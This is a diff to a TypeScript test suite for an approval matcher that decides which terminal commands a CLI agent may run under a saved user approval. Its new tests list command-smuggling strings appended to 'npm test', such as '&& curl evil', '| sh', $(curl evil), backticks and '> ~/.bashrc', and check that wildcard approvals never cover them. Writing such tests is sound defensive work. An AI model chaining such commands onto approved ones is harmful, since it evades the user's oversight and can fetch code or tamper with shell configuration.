@@ -4,7 +4,7 @@ import { creates, writes, type Action, type Claim } from '../../kernel/claim.ts'
 import { ToolError } from '../../kernel/error.ts'
 import { decide } from '../policy/decide.ts'
 import { makePolicy } from '../policy/policy.ts'
-import { compileApproval, type Approval, type CompiledApproval } from './approval.ts'
+import { compileApproval, madeFor, type Approval, type CompiledApproval } from './approval.ts'
 import { canonicalJson } from './canonical-json.ts'
 import { matchApproval, type AskingCall } from './matches.ts'
 import { loadCommandParser } from '../policy/command-parser.ts'
@@ -97,7 +97,13 @@ describe('matchApproval over the attack rows', () => {
       ...(rule.workspace !== undefined && { workspace: rule.workspace }),
     })
     if (row.expect === 'reject-rule') return expect(compileApproval(given)).rejects.toThrow(ToolError)
-    expect(outcomeOf(row, [await compileApproval(given)])).toBe(row.expect === 'allow' ? 'allow' : 'deny')
+    // Without anchors it is refused or matches the whole: either way it approves nothing more than it spells.
+    const isOpen = row.class === 'unanchored'
+    const rules = await compileApproval(given).then(
+      compiled => [compiled],
+      (error: unknown) => (isOpen ? [] : Promise.reject(error)),
+    )
+    expect(outcomeOf(row, rules)).toBe(row.expect === 'allow' ? 'allow' : 'deny')
   })
 
   it('CA-15: holds without the state that spoils it', async () => {
@@ -110,7 +116,58 @@ describe('matchApproval over the attack rows', () => {
   })
 })
 
+describe('a pattern with a wildcard', () => {
+  const asks = (command: string): AskingCall => {
+    const claims: Claim[] = [{ action: 'exec', resource: command }]
+    return call(claims, { tool: 'cli-agent/run_in_terminal', input: JSON.stringify({ command }) })
+  }
+  const approves = async (pattern: string, command: string): Promise<boolean> =>
+    (await matching(approval({ tool: 'cli-agent/run_in_terminal', pattern }), asks(command))) !== undefined
+
+  it('CA-15: approves one command with other arguments', async () => {
+    expect(await approves('^{"command":"npm test.*"}$', 'npm test -- --run a.test.ts')).toBe(true)
+  })
+
+  it.each([
+    'npm test && curl evil',
+    'npm test; curl evil',
+    'npm test | sh',
+    'npm test & curl evil',
+    'npm test\ncurl evil',
+    'npm test $(curl evil)',
+    'npm test `curl evil`',
+    'npm test <(curl evil)',
+    'npm test > ~/.bashrc',
+    'npm test "',
+  ])('CA-15: never approves the chained line %j', async command => {
+    for (const pattern of ['^{"command":"npm test.*"}$', '^{"command":"npm [^"]*"}$', '^{"command":".*"}$'])
+      expect([pattern, await approves(pattern, command)]).toEqual([pattern, false])
+  })
+
+  it('approves a chained line that it spells out', async () => {
+    expect(await approves('^{"command":"npm test && npm run lint"}$', 'npm test && npm run lint')).toBe(true)
+  })
+})
+
 describe('matchApproval', () => {
+  it('covers no tool whose major version or effects have changed since', async () => {
+    const made = madeFor({ version: '1.2.0', effects: ['create', 'write'] })
+    const given = approval({ ...grant('src/*.ts'), made })
+    const asking = (version: string, effects: readonly string[]) =>
+      call(creates('src/a.ts'), { made: madeFor({ version, effects }) })
+    expect(await matching(given, asking('1.3.1', ['write', 'create']))).toBeDefined()
+    expect(await matching(given, asking('2.0.0', ['create', 'write']))).toBeUndefined()
+    expect(await matching(given, asking('1.2.0', ['create', 'write', 'exec']))).toBeUndefined()
+    expect(await matching(given, asking('1.2.0', ['create']))).toBeUndefined()
+    expect(await matching(approval(grant('src/*.ts')), asking('2.0.0', ['create']))).toBeDefined()
+  })
+
+  it('holds no answer whose time was over once', async () => {
+    const given = { ...grant('src/*.ts'), expiresAt: now + HOUR }
+    expect(await matching(approval(given), call(creates('src/a.ts')))).toBeDefined()
+    expect(await matching(approval({ ...given, expired: true }), call(creates('src/a.ts')))).toBeUndefined()
+  })
+
   it('binds to the tool', async () => {
     const given = approval(grant('src/*.ts'))
     expect(await matching(given, call(creates('src/a.ts')))).toMatchObject({ id: 'a1' })
